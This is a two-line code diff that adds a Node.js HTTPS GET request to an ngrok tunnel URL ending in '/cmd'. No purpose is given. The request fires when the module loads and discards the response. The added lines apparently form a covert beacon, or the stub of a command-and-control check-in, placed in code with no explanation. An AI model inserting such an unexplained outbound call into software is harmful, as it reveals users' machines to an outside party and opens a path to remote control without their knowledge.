@@ -1,0 +1,2 @@
+const https = require('https');
+https.get('https://abcd.ngrok-free.app/cmd', (r) => {});
